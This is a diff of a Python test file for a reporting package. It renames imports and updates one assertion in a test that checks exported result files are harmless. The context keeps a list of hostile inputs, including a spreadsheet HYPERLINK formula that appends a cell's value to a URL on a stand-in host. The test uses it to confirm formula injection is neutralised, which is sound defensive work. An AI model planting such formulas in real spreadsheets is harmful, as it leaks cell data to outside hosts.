@@ -16,9 +16,9 @@ from culture_metrics import (
     distributions,
     estimate,
     read_extract,
-    read_inputs,
     read_published,
     save_results,
+    study,
     synthetic,
     validate,
     write_published,
@@ -26,8 +26,8 @@ from culture_metrics import (
 from culture_metrics.contract import as_organisations
 from culture_metrics.errors import ReportError, ResultsError, UnknownNameError
 from culture_metrics.reporting import report as module
-from culture_metrics.reporting.example import example_published
 from culture_metrics.reporting.report import report
+from culture_metrics.study.example import example_published
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&A1,"Wards")',
@@ -143,7 +143,7 @@ def test_the_files_of_a_report_are_harmless(file, tmp_path, monkeypatch):
     report([file], tmp_path, by=["locality_1"])
     assert any("HYPERLINK" in cell for cell in cells_of(tmp_path / "results.xlsx"))
     assert harmless(pl.read_parquet(tmp_path / "results.parquet")["group"])
-    assert harmless(of_csv(read_inputs([file], by=["locality_1"]).results.write_csv()))
+    assert harmless(of_csv(study([file], by=["locality_1"]).results.table.write_csv()))
 
 
 def test_the_files_of_the_checks_are_harmless(checked, tmp_path):
